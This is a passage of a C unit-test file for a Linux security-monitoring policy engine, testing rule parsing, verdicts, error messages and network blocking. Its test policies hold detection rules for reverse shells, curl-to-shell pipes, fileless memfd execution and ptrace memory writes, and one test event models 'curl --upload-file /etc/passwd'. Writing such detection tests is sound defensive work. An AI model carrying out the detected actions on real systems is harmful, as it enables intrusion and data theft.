		{ FILEV(SG_EV_CHMOD, "/home/u/a", .mode = 04755), "-" },
		/* file.mode: the permission bits only (0777 is 511) */
		{ FILEV(SG_EV_CHMOD, "/srv/x", .mode = S_IFREG | 0777), "exact" },
		{ FILEV(SG_EV_CHMOD, "/srv/x", .mode = 0776), "-" },
		{ FILEV(SG_EV_CHMOD, "/dev/shm/p", .mode = 0700), "exe" },
		{ FILEV(SG_EV_CHMOD, "/dev/shm/p", .mode = 0600), "-" },
		/* an open of the same path is not a chmod */
		{ OPEN(20, "/tmp/a", .mode = 04755), "-" },
	},
},
{
	.name = "exec_context",
	.policy = HDR
		"  - {id: rev, events: [exec], match: [{proc.name: [sh, dash], stdin: socket}], "
		"action: alert}\n"
		"  - {id: pipe, events: [exec], match: [{proc.name: [sh, dash], stdin.pipe_from: curl},"
		" {proc.name: curl, stdout.pipe_to: [sh, dash]}], action: alert}\n"
		"  - {id: anysock, events: [exec], match: {stdio: socket}, action: log}\n"
		"  - {id: mem, events: [exec], match: {exec.fileless: memfd}, action: alert}\n"
		"  - {id: ld, events: [exec], match: {exec.via: loader, exec.loader_target: "
		"{prefix: /tmp/}}, action: alert}\n",
	.j = {
		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
		       .stdio = { SG_FD_SOCKET, SG_FD_SOCKET }), "rev" },
		/* stdout still a socket */
		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
		       .stdio = { SG_FD_TTY, SG_FD_SOCKET }), "anysock" },
		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
		       .stdio = { SG_FD_TTY, SG_FD_TTY }), "-" },
		/* curl | sh, the shell exec'd last */
		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
		       .stdio = { SG_FD_PIPE, SG_FD_TTY }, .peer = { &peer_curl }), "pipe" },
		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
		       .stdio = { SG_FD_PIPE, SG_FD_TTY }, .peer = { &peer_sh }), "-" },
		{ EXEC(20, "/usr/bin/dash", argv_sh_i, sizeof(argv_sh_i), .has_stdio = true,
		       .stdio = { SG_FD_PIPE, SG_FD_TTY }), "-" },
		/* curl | sh, curl exec'd last: its stdout's reader is the shell */
		{ EXEC(21, "/usr/bin/curl", "curl\0", 5, .has_stdio = true,
		       .stdio = { [1] = SG_FD_PIPE }, .peer = { [1] = &peer_sh }), "pipe" },
		/* without stdio (a failed exec) no stdio condition holds */
		{ EXEC(21, "/usr/bin/curl", "curl\0", 5, .stdio = { [1] = SG_FD_PIPE },
		       .peer = { [1] = &peer_sh }), "-" },
		{ EXEC(22, "/usr/bin/true", "true\0", 5, .fileless = "memfd"), "mem" },
		{ EXEC(22, "/usr/bin/true", "true\0", 5, .fileless = "deleted"), "-" },
		{ EXEC(22, "/usr/bin/true", "true\0", 5, .via = "loader",
		       .loader_target = "/tmp/x"), "ld" },
		{ EXEC(22, "/usr/bin/true", "true\0", 5, .via = "loader",
		       .loader_target = "/usr/bin/x"), "-" },
	},
},
{
	.name = "net",
	.policy = HDR
		"  - {id: lan, events: [connect], match: {net.addr: [10.0.0.0/8, 'fd00::/8']}, "
		"action: log}\n"
		"  - {id: dns, events: [connect], match: {net.port: 53, net.proto: udp}, action: log}\n"
		"  - {id: web, events: [connect], match: {net.port: [80, 443]}, action: log}\n"
		"  - {id: high, events: [connect], match: {net.port: 1000-2000, net.family: inet6}, "
		"action: alert}\n"
		"  - {id: host, events: [connect], match: {net.addr: 192.0.2.7}, action: alert}\n"
		"  - {id: unix, events: [connect], match: {net.family: unix}, action: log}\n"
		"  - {id: notweb, events: [bind, listen], match: {net.port: {not: [80, 443]}}, "
		"action: alert}\n"
		"  - {id: refused, events: [connect], match: {result.error: [EACCES, EPERM]}, "
		"action: alert}\n"
		"  - {id: fail, events: [connect], match: {result: failure}, action: log}\n",
	.j = {
		{ NET(SG_EV_CONNECT, "10.1.2.3", 22, IPPROTO_TCP), "lan" },
		{ NET(SG_EV_CONNECT, "::ffff:10.1.2.3", 22, IPPROTO_TCP), "lan" },
		{ NET(SG_EV_CONNECT, "fd12::1", 22, IPPROTO_TCP), "lan" },
		{ NET(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_UDP), "dns" },
		{ NET(SG_EV_CONNECT, "9.9.9.9", 53, IPPROTO_TCP), "-" },
		/* the protocol from the socket type when the kernel gave none */
		{ NET(SG_EV_CONNECT, "9.9.9.9", 53, 0, .sock_type = SET(SOCK_DGRAM)), "dns" },
		{ NET(SG_EV_CONNECT, "9.9.9.9", 443, IPPROTO_TCP), "web" },
		{ NET(SG_EV_CONNECT, "2001:db8::1", 1500, IPPROTO_TCP), "high" },
		{ NET(SG_EV_CONNECT, "9.9.9.9", 1500, IPPROTO_TCP), "-" },
		{ NET(SG_EV_CONNECT, "192.0.2.7", 1, IPPROTO_TCP), "host" },
		{ NET(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP), "-" },
		{ NET(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP, .result = SET(-ECONNREFUSED)),
		  "fail" },
		/* result.error: the error's name; a refusal is both rules', the alert decides */
		{ NET(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP, .result = SET(-EPERM)), "refused" },
		{ NET(SG_EV_CONNECT, "192.0.2.8", 1, IPPROTO_TCP, .result = SET(-EACCES)),
		  "refused" },
		{ NET(SG_EV_CONNECT, "0.0.0.0", 0, 0, .family = SET(AF_UNIX),
		      .unix_path = "/run/x.sock"), "unix" },
		{ NET(SG_EV_BIND, "0.0.0.0", 8080, IPPROTO_TCP), "notweb" },
		{ NET(SG_EV_LISTEN, "0.0.0.0", 443, IPPROTO_TCP), "-" },
	},
},
{
	.name = "events_field",
	.policy = HDR
		"  - {id: w, events: [open], match: {event: write}, action: alert}\n"
		"  - {id: ok, events: [exec, fork, exit], match: {result: success}, action: log}\n",
	.j = {
		{ OPEN(20, "/x", .write = true, .flags = O_WRONLY), "w" },
		{ OPEN(20, "/x", .flags = O_WRONLY), "-" },
		{ { .type = SG_EV_FORK, .pid = 20, .comm = "sh", .exe = "/usr/bin/dash",
		    .has_result = SET(false) }, "ok" },
		{ EXEC(20, "/nonexistent", "x\0", 2, .result = SET(-ENOENT)), "-" },
	},
},
{
	/* ptrace.request: value i is bit i of the names in event.h (attach, seize, vm_write) */
	.name = "ptrace",
	.policy = HDR
		"  - {id: seize, events: [ptrace], match: {ptrace.request: seize}, action: alert}\n"
		"  - {id: mem, events: [ptrace], match: {ptrace.request: [vm_write], "
		"ptrace.target: dash}, action: alert}\n"
		"  - {id: att, events: [ptrace], match: {ptrace.request: {not: [seize, vm_write]}}, "
		"action: log}\n",
	.j = {
		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
		    .request = 0x4206 /* PTRACE_SEIZE */ }, "seize" },
		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
		    .request = 0 /* process_vm_writev */, .target = &procs[2] }, "mem" },
		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
		    .request = 0, .target = &procs[1] }, "-" },
		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
		    .request = 16 /* PTRACE_ATTACH */, .target = &procs[1] }, "att" },
		/* another request: no name, 'not' holds */
		{ { .type = SG_EV_PTRACE, .pid = 30, .comm = "gdb", .exe = "/usr/bin/gdb",
		    .request = 7, .target = &procs[1] }, "att" },
	},
},
};

/* One case of vcases: its policy, then each event in turn. */
static void test_verdicts(void **state)
{
	const struct vcase *vc = *state;
	struct policy *p = load(vc->policy);

	for (size_t i = 0; i < sizeof(vc->j) / sizeof(vc->j[0]) && vc->j[i].want; i++) {
		const struct judgement *j = &vc->j[i];
		struct sg_event ev = mkev(&j->ev);
		const char *got;
		int r;

		r = policy_eval_lineage(p, &ev, j->ev.no_lineage ? NULL : &lineage);
		got = ev.verdict.rule_id ? ev.verdict.rule_id : "-";
		if (strcmp(got, j->want) != 0)
			fail_msg("%s, event %zu: rule '%s', expected '%s'", vc->name, i, got,
				 j->want);
		if (r != (int)ev.verdict.action || ev.verdict.repeat != 1 || ev.verdict.enforced)
			fail_msg("%s, event %zu: returned %d, verdict %d, repeat %u, enforced %d",
				 vc->name, i, r, ev.verdict.action, ev.verdict.repeat,
				 ev.verdict.enforced);
		if (j->action && ev.verdict.action != j->action)
			fail_msg("%s, event %zu: action %s, expected %s", vc->name, i,
				 sg_action_name(ev.verdict.action), sg_action_name(j->action));
		if (j->severity && ev.verdict.severity != j->severity)
			fail_msg("%s, event %zu: severity %s, expected %s", vc->name, i,
				 sg_severity_name(ev.verdict.severity),
				 sg_severity_name(j->severity));
	}
	if (vc->stats) {
		struct policy_stats st;

		policy_stats(p, &st);
		assert_int_equal(st.evaluated, vc->st.evaluated);
		assert_int_equal(st.excluded, vc->st.excluded);
		assert_int_equal(st.defaulted, vc->st.defaulted);
	}
	if (vc->dedup_window_ns)
		assert_int_equal(policy_dedup_window_ns(p), vc->dedup_window_ns);
	policy_free(p);
}

/* ---- errors ---------------------------------------------------------------- */

/* A policy text, and a message its load must give (it fails to load). */
struct ecase {
	const char *text;
	const char *msg;
};

static const struct ecase ecases[] = {
	/* match_any */
	{ HDR "  - {id: a, events: [exec], action: log, match: []}\n",
	  "t.yaml:3:49: 'match' is an empty list" },
	{ HDR "  - {id: a, events: [exec], action: log, match: [{}]}\n",
	  "a 'match' entry has no conditions" },
	/* exec_context */
	{ HDR "  - {id: a, events: [exec], action: log, match: {stdin: sock}}\n",
	  "unknown value 'sock' (expected closed, tty, pipe, socket, file, null, chr, "
	  "other)" },
	{ HDR "  - {id: a, events: [open], action: log, match: {stdin: socket}}\n",
	  "field 'stdin' does not exist for events [open]" },
	/* chmod */
	{ HDR "  - {id: a, events: [open], action: log, match: {file.setuid: true}}\n",
	  "field 'file.setuid' does not exist for events [open]" },
	{ HDR "  - {id: a, events: [chmod], action: log, match: {file.write: true}}\n",
	  "field 'file.write' does not exist for events [chmod]" },
	/* ptrace */
	{ HDR "  - {id: a, events: [ptrace], action: log, match: {ptrace.request: peek}}\n",
	  "unknown value 'peek' (expected attach, seize, vm_write)" },
	/* nocase */
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: {in: 0, nocase: true}}}\n",
	  "'nocase' applies to strings; 'proc.uid' is not one" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.name: {nocase: true}}}\n",
	  "no operator for 'proc.name' besides 'nocase'" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.name: {in: a, nocase: 1}}}\n",
	  "'nocase' takes true or false" },
	/* documents, rules, fields and their values */
	{ "version: 2\n",
	  "t.yaml:1:10: unsupported version '2'" },
	{ "rules: []\n",
	  "t.yaml:1:1: missing 'version: 1'" },
	{ "- a\n",
	  "t.yaml:1:1: a policy must be a mapping" },
	{ "",
	  "t.yaml:1:1: a policy must be a mapping" },
	{ "version: 1\nfoo: 1\n",
	  "t.yaml:2:1: unknown key 'foo'" },
	{ "version: 1\nversion: 1\n",
	  "t.yaml:2:1: duplicate key 'version'" },
	{ "version: 1\nrules: [\n",
	  "t.yaml:3:1: YAML: " },
	{ "version: 1\na: &x 1\n",
	  "YAML anchors are not supported" },
	{ HDR "  - {id: a, events: [exec], action: alert, bogus: 1}\n",
	  "t.yaml:3:44: unknown key 'bogus' in a rule" },
	{ HDR "  - {events: [exec], action: alert}\n",
	  "t.yaml:3:5: a rule without 'id'" },
	{ HDR "  - {id: a, action: alert}\n",
	  "t.yaml:3:5: rule 'a' has no 'events'" },
	{ HDR "  - {id: a, events: exec}\n",
	  "t.yaml:3:5: rule 'a' has no 'action'" },
	{ HDR "  - {id: a, events: [exec, bogus], action: alert}\n",
	  "t.yaml:3:28: unknown event type 'bogus'" },
	{ HDR "  - {id: a, events: [exec], action: kill}\n",
	  "t.yaml:3:37: unknown action 'kill'" },
	{ HDR "  - {id: a, events: [exec], action: alert, severity: huge}\n",
	  "t.yaml:3:54: unknown severity 'huge'" },
	{ HDR "  - {id: a, events: [exec], action: log}\n"
	  "  - {id: a, events: [exec], action: log}\n",
	  "t.yaml:4:10: duplicate rule id 'a' (first at t.yaml:3:5)" },
	{ HDR "  - {id: 'a b', events: [exec], action: log}\n",
	  "bad rule id 'a b'" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.bogus: x}}\n",
	  "t.yaml:3:50: unknown field 'proc.bogus'" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {file.path: /x}}\n",
	  "t.yaml:3:50: field 'file.path' does not exist for events [exec]" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {like: x}}}\n",
	  "t.yaml:3:61: unknown operator 'like' for 'proc.exe'" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: {prefix: 1}}}\n",
	  "unknown operator 'prefix' for 'proc.uid' (expected in, not, all)" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: abc}}\n",
	  "t.yaml:3:60: bad number or range 'abc' for 'proc.uid'" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: 5-1}}\n",
	  "bad number or range '5-1'" },
	{ HDR "  - {id: a, events: [connect], action: log, match: {net.port: 2000-1000}}\n",
	  "t.yaml:3:63: bad port or port range '2000-1000': port range runs backwards" },
	{ HDR "  - {id: a, events: [connect], action: log, match: {net.port: 70000}}\n",
	  "bad port or port range '70000'" },
	{ HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 10.0.0.1/8}}\n",
	  "t.yaml:3:63: bad address or CIDR '10.0.0.1/8': host bits set" },
	{ HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 1.2.3}}\n",
	  "bad address or CIDR '1.2.3': not an IP address" },
	/* enumerations, lists, exceptions, operators, defaults */
	{ HDR "  - {id: a, events: [connect], action: log, match: {net.proto: sctp}}\n",
	  "t.yaml:3:64: unknown value 'sctp' (expected tcp, udp)" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: $nope}}\n",
	  "t.yaml:3:60: unknown list 'nope'" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: []}}\n",
	  "empty list of values for 'proc.exe'" },
	{ HDR "  - {id: a, events: [open], action: log, match: {file.write: maybe}}\n",
	  "'file.write' takes true or false, not 'maybe'" },
	{ HDR "  - {id: a, events: [exec], action: log, except: [{}]}\n",
	  "an exception has no conditions" },
	{ HDR "  - {id: a, events: [exec], action: log, except: {proc.uid: 0}}\n",
	  "'except' must be a list of condition sets" },
	{ HDR "  - {id: a, events: [exec], action: log, match: [x]}\n",
	  "t.yaml:3:50: a 'match' entry must be a mapping, not a string" },
	{ HDR "  - {id: a, events: [exec], action: log, match: x}\n",
	  "t.yaml:3:49: 'match' must be a mapping, not a string" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {in: x, is: y}}}\n",
	  "operator 'in' given twice" },
	{ HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: "
	  "{not: {not: {not: {not: {not: x}}}}}}}\n",
	  "'not' nested too deeply" },
	{ "version: 1\nlists: {a: [x, $b]}\n",
	  "t.yaml:2:16: list 'a' refers to another" },
	{ "version: 1\nlists: {a: x}\n",
	  "t.yaml:2:12: a list must be a list" },
	{ "version: 1\ndefaults: {action: block}\n",
	  "bad default action 'block'" },
	{ "version: 1\ndefaults: {dedup_window: 5}\n",
	  "t.yaml:2:26: bad duration '5'" },
	{ "version: 1\ndefaults: {dedup_window: 2x}\n",
	  "bad duration '2x'" },
	{ "version: 1\ndefaults: {dedup_window: 2h}\n",
	  "longer than 3600s" },
	{ "version: 1\ndefaults: {dedup_window: 9999s}\n",
	  "longer than 3600s" },
	{ "version: 1\ndefaults: {colour: red}\n",
	  "unknown key 'colour' in 'defaults'" },
	{ "version: 1\nexclude: [{}]\n",
	  "an exclusion has no conditions" },
	{ "version: 1\nrules: {a: 1}\n",
	  "'rules' must be a list, not a mapping" },
};

static void test_errors(void **state)
{
	for (size_t i = 0; i < sizeof(ecases) / sizeof(ecases[0]); i++) {
		char *out = load_fail(ecases[i].text);

		if (!strstr(out, ecases[i].msg))
			fail_msg("error case %zu: expected '%s' in:\n%s", i, ecases[i].msg, out);
		free(out);
	}
}

/* ---- the rest ---------------------------------------------------------------- */

static const char *vcase_policy(const char *name)
{
	for (size_t i = 0; i < sizeof(vcases) / sizeof(vcases[0]); i++)
		if (strcmp(vcases[i].name, name) == 0)
			return vcases[i].policy;
	fail_msg("no verdict case '%s'", name);
	return NULL;
}

/* The dump names ptrace requests as the policy does. */
static void test_ptrace_dump(void **state)
{
	struct policy *p = load(vcase_policy("ptrace"));
	char *d = dump(p);

	assert_non_null(strstr(d, "ptrace.request: {in: [seize]}"));
	assert_non_null(strstr(d, "ptrace.request: {not: {in: [seize, vm_write]}}"));
	free(d);
	policy_free(p);
}

/* Every row of the field table is whole: a unique name, a group, a reader, value names. */
static void test_field_table(void **state)
{
	const char *key0;

	for (int f = 0; f < FLD_MAX; f++) {
		const struct pfield_desc *fd = &policy_fields[f];
		int named = 0;

		char keyed[128];
		const char *key;

		assert_non_null(fd->name);
		snprintf(keyed, sizeof(keyed), "%s%s", fd->name, fd->flags & PF_KEYED ? "k" : "");
		assert_int_equal(policy_field_find(keyed, &key), f);
		if (fd->flags & PF_KEYED)
			assert_string_equal(key, "k");
		else
			assert_null(key);
		assert_int_not_equal(fd->group, 0);
		assert_int_not_equal(policy_field_events[f], 0);
		assert_non_null(fd->get.bits); /* whichever member its kind reads */
		for (int b = 0; b < 32; b++)
			named += policy_enum_name(f, b) != NULL;
		assert_true(fd->kind == PK_ENUM ? named > 0 : named == 0);
	}
	assert_int_equal(policy_field_find("proc.bogus", &key0), -1);
	assert_int_equal(policy_field_find("container.labels.", &key0), -1);
}

struct pieces {
	int n;
	char text[16][96];
};

static int collect(void *arg, const struct policy_net_block *b)
{
	struct pieces *pc = arg;
	char net[ADDR_STR_MAX];

	assert_int_equal(addr_format_cidr(&b->net, net, sizeof(net)), 0);
	snprintf(pc->text[pc->n++], sizeof(pc->text[0]), "%zu %s %s%s %s %u-%u %u", b->rule, b->id,
		 b->connect ? "c" : "", b->bind ? "b" : "", net, b->port_lo, b->port_hi, b->proto);
	return pc->n == 16 ? -ENOSPC : 0;
}

static void test_block(void **state)
{
	struct policy_diag d;
	struct policy_rule_info ri;
	struct policy *p = NULL;
	struct pieces pc = { 0 };
	const char *text = HDR
		"  - {id: b, events: [connect], match: {net.port: 4444}, action: block}\n"
		"  - {id: c, events: [connect, bind], match: [{net.addr: [10.0.0.0/8, '::1'], "
		"net.port: [22, 8000-8080], net.proto: tcp}, {net.family: inet6}], action: block}\n"
		"  - {id: d, events: [connect], match: {proc.uid: 0}, action: block}\n"
		"  - {id: e, events: [connect], match: {net.port: 1}, action: alert}\n"
		"  - {id: f, events: [bind], match: {net.port: {not: 1}}, action: block}\n"
		"  - {id: g, events: [connect], except: [{net.port: 1}], action: block}\n";
	struct sg_event ev;

	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), 0);
	assert_int_equal(d.errors, 0);
	assert_int_equal(d.warnings, 3);
	assert_int_equal(d.msgs[0].line, 5);
	assert_int_equal(d.msgs[0].col, 62);
	assert_true(d.msgs[0].warning);
	/* a process condition: only BPF-LSM could judge it, and it was not probed here */
	assert_string_equal(d.msgs[0].text, "rule 'd' is monitor-only: it needs BPF-LSM, which "
			    "was not probed; its events are reported with \"enforced\": false");
	assert_non_null(strstr(d.msgs[1].text, "rule 'f' is monitor-only: 'not' cannot"));
	/* an exception: BPF-LSM could judge it, the cgroup programs cannot */
	assert_non_null(strstr(d.msgs[2].text, "rule 'g' is monitor-only: it needs BPF-LSM"));
	policy_diag_fini(&d);

	assert_int_equal(policy_net_blocks(p, collect, &pc), 7);
	assert_string_equal(pc.text[0], "0 b c 0.0.0.0/0 4444-4444 0");
	assert_string_equal(pc.text[1], "0 b c ::/0 4444-4444 0");
	assert_string_equal(pc.text[2], "1 c cb 10.0.0.0/8 22-22 6");
	assert_string_equal(pc.text[3], "1 c cb 10.0.0.0/8 8000-8080 6");
	assert_string_equal(pc.text[4], "1 c cb ::1 22-22 6");
	assert_string_equal(pc.text[5], "1 c cb ::1 8000-8080 6");
	assert_string_equal(pc.text[6], "1 c cb ::/0 0-65535 0");
	/* fn's error stops the walk */
	pc.n = 9;
	assert_int_equal(policy_net_blocks(p, collect, &pc), -ENOSPC);

	ev = ev_net(SG_EV_CONNECT, "1.2.3.4", 4444, IPPROTO_TCP);
	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_BLOCK);
	assert_false(ev.verdict.enforced);
	assert_int_equal(policy_rule_info(p, 0, &ri), 0);
	assert_false(ri.enforceable);
	assert_int_equal(ri.action, SG_ACT_BLOCK);
	assert_int_equal(policy_rule_set_enforceable(p, 0, true), 0);
	assert_int_equal(policy_rule_set_enforceable(p, 6, true), -ENOENT);
	policy_eval_lineage(p, &ev, NULL);
	assert_true(ev.verdict.enforced);
	policy_free(p);
}

static void test_warnings(void **state)
{
	const char *text = HDR
		"  - {id: a, events: [exec], action: log, match: {proc.exe: {in: /a, prefix: /b}}}\n";
	struct policy_diag d;
	struct policy *p = NULL;

	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), 0);
	assert_int_equal(d.warnings, 1);
	assert_int_equal(d.msgs[0].col, 60);
	assert_string_equal(d.msgs[0].text, "'proc.exe': 'in' and 'prefix' must both hold; for "
					    "either, put the values in one 'glob' list");
	policy_diag_fini(&d);
	policy_free(p);
	text = "version: 1\nlists: {unused: [a]}\n";
	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), 0);
	assert_int_equal(d.warnings, 1);
	assert_string_equal(d.msgs[0].text, "list 'unused' is never used");
	assert_int_equal(d.msgs[0].line, 2);
	assert_int_equal(d.msgs[0].col, 17);
	policy_diag_fini(&d);
	policy_free(p);
}

static void test_all_errors_collected(void **state)
{
	char *out = load_fail(HDR
		"  - {id: a, events: [bogus], action: log}\n"
		"  - {id: b, events: [exec], action: nope}\n"
		"  - {id: c, events: [exec], action: log, match: {net.port: 1}}\n");

	assert_string_equal(out,
		"t.yaml:3:22: unknown event type 'bogus' (expected exec, fork, exit, open, rename, "
		"unlink, connect, bind, listen, chmod, ptrace, setuid, mount, module, bpf, io_uring, container, write)\n"
		"t.yaml:4:37: unknown action 'nope' (expected allow, log, alert, block)\n"
		"t.yaml:5:50: field 'net.port' does not exist for events [exec]\n");
	free(out);
}

static char *dump(const struct policy *p)
{
	char *s = NULL;

	assert_int_equal(policy_dump_string(p, &s), 0);
	return s;
}

/* The other rules of a verdict, as "id/action/severity ..." */
static void matches_str(const struct sg_verdict *vd, char *buf, size_t len)
{
	size_t o = 0;

	buf[0] = '\0';
	for (size_t i = 0; i < vd->nmatches && o < len; i++)
		o += (size_t)snprintf(buf + o, len - o, "%s%s/%s/%s", i ? " " : "",
				      vd->matches[i].rule_id,
				      sg_action_name(vd->matches[i].action),
				      sg_severity_name(vd->matches[i].severity));
}

/*
 * All-match: every rule that holds counts; the strongest decides (action,
 * then severity, then the earlier rule); an allow rule silences the rules
 * after it; the others are named, strongest first, at most SG_MATCHES_MAX.
 */
static void test_all_match(void **state)
{
	static const char text[] = HDR
		"  - {id: curl, events: [exec], match: {proc.name: curl}, action: log}\n"
		"  - {id: upload, events: [exec], match: {proc.argv: {arg: --upload-file}}, "
		"action: alert, severity: high}\n"
		"  - {id: any-c, events: [exec], match: {proc.argv: {contains: c}}, action: alert, "
		"severity: low}\n"
		"  - {id: quiet, events: [exec], match: {proc.argv: {arg: --quiet}}, action: allow}\n"
		"  - {id: late, events: [exec], match: {proc.name: curl}, action: alert, "
		"severity: critical}\n"
		"  - {id: exc, events: [exec], match: {proc.name: curl}, except: [{proc.argv: {arg: "
		"-x}}], action: alert, severity: critical}\n";
	static const char many[] = HDR
		"  - {id: m1, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m2, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m3, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m4, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m5, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m6, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m7, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m8, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m9, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m10, events: [open], match: {file.path: {prefix: /}}, action: log}\n"
		"  - {id: m11, events: [open], match: {file.path: {prefix: /}}, action: alert}\n";
	static const char argv_up[] = "curl\0--upload-file\0/etc/passwd\0";
	static const char argv_q[] = "curl\0--quiet\0--upload-file\0x\0";
	static const char argv_x[] = "curl\0-x\0h\0";
	struct policy *p = load(text), *q = load(many);
	struct policy_rule_info ri;
	struct sg_event ev;
	char buf[512];

	(void)state;
	/* the specific high rule decides over the broad log rule and the low one */
	ev = ev_exec(99, "/usr/bin/curl", argv_up, sizeof(argv_up) - 1);
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "late");
	assert_int_equal(ev.verdict.action, SG_ACT_ALERT);
	assert_int_equal(ev.verdict.severity, SG_SEV_CRITICAL);
	matches_str(&ev.verdict, buf, sizeof(buf));
	assert_string_equal(buf, "exc/alert/critical upload/alert/high any-c/alert/low "
				 "curl/log/info");
	assert_int_equal(ev.verdict.matches_more, 0);
	/* the allow rule silences what comes after it, not what came before */
	ev = ev_exec(99, "/usr/bin/curl", argv_q, sizeof(argv_q) - 1);
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "upload");
	matches_str(&ev.verdict, buf, sizeof(buf));
	assert_string_equal(buf, "any-c/alert/low curl/log/info");
	/* an exception silences its own rule only */
	ev = ev_exec(99, "/usr/bin/curl", argv_x, sizeof(argv_x) - 1);
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "late");
	matches_str(&ev.verdict, buf, sizeof(buf));
	assert_string_equal(buf, "any-c/alert/low curl/log/info");
	/* every rule that held is counted */
	assert_int_equal(policy_rule_info(p, 0, &ri), 0);
	assert_int_equal(ri.hits, 3);
	assert_int_equal(policy_rule_info(p, 3, &ri), 0);
	assert_int_equal(ri.hits, 1);
	/* the allow rule decides when nothing before it held */
	ev = ev_exec(99, "/usr/bin/wget", LIT("wget\0--quiet\0"));
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "quiet");
	assert_int_equal(ev.verdict.action, SG_ACT_ALLOW);
	assert_int_equal(ev.verdict.nmatches, 0);
	/* eleven rules: the alert decides, eight are named, two counted */
	ev = ev_open(20, "/etc/hosts", false, O_RDONLY);
	policy_eval_lineage(q, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "m11");
	assert_int_equal(ev.verdict.nmatches, SG_MATCHES_MAX);
	assert_int_equal(ev.verdict.matches_more, 2);
	assert_string_equal(ev.verdict.matches[0].rule_id, "m1");
	assert_string_equal(ev.verdict.matches[SG_MATCHES_MAX - 1].rule_id, "m8");
	policy_free(p);
	policy_free(q);
}

/*
 * The index by program name: rules under names and the others interleave in
 * policy order, names are folded, and every candidate is judged whole.
 */
static void test_index(void **state)
{
	static const char text[] = HDR
		"  - {id: any, events: [exec], match: {proc.argv: {contains: zz}}, action: log}\n"
		"  - {id: n1, events: [exec], match: {proc.name: [a1, b1]}, action: log}\n"
		"  - {id: n2, events: [exec], match: {proc.exe: {suffix: /a1}}, action: alert, "
		"severity: low}\n"
		"  - {id: n3, events: [exec], match: [{proc.exe: /usr/bin/c3}, {proc.name: a1}], "
		"action: log}\n"
		"  - {id: mid, events: [exec], match: {proc.uid: 7}, action: alert}\n"
		"  - {id: n4, events: [exec], match: {proc.exe: {suffix: /Curl, nocase: true}}, "
		"action: alert, severity: high}\n"
		"  - {id: n5, events: [exec], match: {proc.exe: {glob: ['*/d5', /opt/e5]}}, "
		"action: log}\n"
		"  - {id: n6, events: [exec], match: {proc.name: {glob: f6}, proc.argv: {contains: "
		"x}}, action: log}\n"
		"  - {id: n7, events: [exec], match: {proc.name: g7}, action: log}\n"
		"  - {id: n8, events: [exec], match: {proc.name: CURL}, action: log}\n"
		"  - {id: half, events: [exec], match: [{proc.name: a1}, {proc.uid: 8}], "
		"action: alert, severity: critical}\n";
	struct policy *p = load(text);
	const struct pindex *ix = &p->index[SG_EV_EXEC];
	struct sg_event ev;
	char buf[512];

	(void)state;
	assert_int_not_equal(ix->nslots, 0);
	assert_int_equal(ix->indexed, 8);
	assert_int_equal(ix->nalways, 3); /* any, mid, half */
	/* a1: n1, n2, n3 and half under its name; any and mid judged too */
	ev = ev_exec(99, "/usr/bin/a1", LIT("a1\0zz\0"));
	ev.proc.uid = 7;
	policy_eval_lineage(p, &ev, NULL);
	assert_string_equal(ev.verdict.rule_id, "half");
	matches_str(&ev.verdict, buf, sizeof(buf));
	assert_string_equal(buf, "n2/alert/low mid/alert/info any/log/info n1/log/info "
				 "n3/log/info");
	/* folded names: /usr/bin/CURL is a candidate for the nocase suffix and for
